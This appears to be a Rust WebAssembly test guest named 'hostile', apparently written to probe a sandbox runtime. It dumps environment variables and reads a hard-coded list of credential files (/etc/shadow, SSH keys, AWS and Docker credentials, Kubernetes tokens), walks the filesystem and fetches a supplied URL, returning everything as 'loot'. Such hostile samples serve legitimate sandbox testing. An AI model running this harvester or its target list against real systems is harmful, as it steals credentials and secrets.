//! Hostile: hunts for secrets everywhere it can reach (see `wit/world.wit`).

are_guest_sdk::generate!({ world: "hostile" });

use std::fs;
use std::path::{Path, PathBuf};

use are_guest_sdk::wasip2::cli::environment;
use are_guest_sdk::wasip2::filesystem::preopens::get_directories;
use exports::hostile::secret::attack::{Finding, Guest, Loot};

/// The most bytes kept from one file or body.
const KEEP: usize = 4096;

/// The most files read in one hunt.
const MAX_FILES: usize = 2000;

/// How deep the walk descends.
const MAX_DEPTH: usize = 8;

/// Where secrets live on a typical host, relative to `/` or to `$HOME`.
const WELL_KNOWN: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/1/environ",
    "/run/secrets",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/root/.aws/credentials",
    "/root/.ssh/id_rsa",
    "/root/.ssh/id_ed25519",
    "/root/.netrc",
    "/root/.docker/config.json",
    "/root/.cargo/credentials.toml",
    ".env",
    "secrets.toml",
];

struct Secret;

impl Guest for Secret {
    fn hunt(url: Option<String>, paths: Vec<String>) -> Loot {
        let mut hunt = Hunt {
            loot: Loot {
                findings: Vec::new(),
                failures: Vec::new(),
            },
            files_read: 0,
        };
        hunt.environment();

        let home = std::env::var("HOME").ok();
        let mut candidates: Vec<String> =
            WELL_KNOWN.iter().map(|path| (*path).to_owned()).collect();
        if let Some(home) = &home {
            for file in [
                ".aws/credentials",
                ".ssh/id_rsa",
                ".netrc",
                ".config/gh/hosts.yml",
                ".env",
            ] {
                candidates.push(format!("{home}/{file}"));
            }
        }
        candidates.extend(paths);
        for path in candidates {
            hunt.walk(Path::new(&path), 0);
        }

        for (_, root) in get_directories() {
            hunt.walk(Path::new(&root), 0);
        }
        hunt.walk(Path::new("/"), 0);

        if let Some(url) = url {
            hunt.fetch(&url);
        }
        hunt.loot
    }

    fn follow(url: String, headers: Vec<(String, String)>, hops: u32) -> Loot {
        let mut hunt = Hunt {
            loot: Loot {
                findings: Vec::new(),
                failures: Vec::new(),
            },
            files_read: 0,
        };
        let mut next = Some(url);
        let mut hop = 0;
        while let Some(url) = next.take() {
            let mut request = are_guest_sdk::http::Request::get(&url).max_body_bytes(KEEP as u64);
            for (name, value) in &headers {
                request = request.header(name, value);
            }
            match request.send() {
                Ok(response) => {
                    let location = response.header("location").map(|to| resolve(&url, to));
                    hunt.record_response(&url, &response);
                    if (300..400).contains(&response.status) && hop < hops {
                        hop += 1;
                        next = location;
                    }
                }
                Err(error) => hunt.failed(error.to_string()),
            }
        }
        hunt.loot
    }
}

export!(Secret);

/// `to` (a `Location`) made absolute against `from`.
fn resolve(from: &str, to: &str) -> String {
    if to.contains("://") {
        return to.to_owned();
    }
    let origin_end = from
        .find("://")
        .and_then(|scheme| from[scheme + 3..].find('/').map(|path| scheme + 3 + path))
        .unwrap_or(from.len());
    format!("{}/{}", &from[..origin_end], to.trim_start_matches('/'))
}

struct Hunt {
    loot: Loot,
    files_read: usize,
}

impl Hunt {
    fn found(&mut self, source: String, content: String) {
        let seen = self
            .loot
            .findings
            .iter()
            .any(|finding| finding.source == source && finding.content == content);
        if !seen {
            self.loot.findings.push(Finding { source, content });
        }
    }

    fn failed(&mut self, what: String) {
        self.loot.failures.push(what);
    }

    fn environment(&mut self) {
        for (name, value) in std::env::vars_os() {
            self.found(
                format!("env:{}", name.to_string_lossy()),
                value.to_string_lossy().into_owned(),
            );
        }
        for (name, value) in environment::get_environment() {
            self.found(format!("env:{name}"), value);
        }
        for arg in std::env::args_os()
            .map(|arg| arg.to_string_lossy().into_owned())
            .chain(environment::get_arguments())
        {
            self.found("arg".to_owned(), arg);
        }
        if let Some(cwd) = environment::initial_cwd() {
            self.found("cwd".to_owned(), cwd);
        }
    }

    /// Reads a file, or walks a directory, keeping what it finds.
    fn walk(&mut self, path: &Path, depth: usize) {
        if self.files_read >= MAX_FILES || depth > MAX_DEPTH {
            return;
        }
        let metadata = match fs::metadata(path) {
            Ok(metadata) => metadata,
            Err(error) => return self.failed(format!("{}: {error}", path.display())),
        };
        if metadata.is_dir() {
            let entries = match fs::read_dir(path) {
                Ok(entries) => entries,
                Err(error) => return self.failed(format!("{}: {error}", path.display())),
            };
            let children: Vec<PathBuf> = entries
                .filter_map(|entry| entry.ok().map(|entry| entry.path()))
                .collect();
            for child in children {
                self.walk(&child, depth + 1);
            }
        } else {
            self.files_read += 1;
            match fs::read(path) {
                Ok(bytes) => {
                    let kept =
                        String::from_utf8_lossy(&bytes[..bytes.len().min(KEEP)]).into_owned();
                    self.found(format!("file:{}", path.display()), kept);
                }
                Err(error) => self.failed(format!("{}: {error}", path.display())),
            }
        }
    }

    fn fetch(&mut self, url: &str) {
        let request = are_guest_sdk::http::Request::get(url).max_body_bytes(KEEP as u64);
        match request.send() {
            Ok(response) => self.record_response(url, &response),
            Err(error) => self.failed(error.to_string()),
        }
    }

    /// Keeps a response's status, headers and body as the finding `http:URL`.
    fn record_response(&mut self, url: &str, response: &are_guest_sdk::http::Response) {
        let headers: Vec<String> = response
            .headers
            .iter()
            .map(|(name, value)| format!("{name}: {value}"))
            .collect();
        self.found(
            format!("http:{url}"),
            format!(
                "{}\n{}\n\n{}",
                response.status,
                headers.join("\n"),
                response.text()
            ),
        );
    }
}
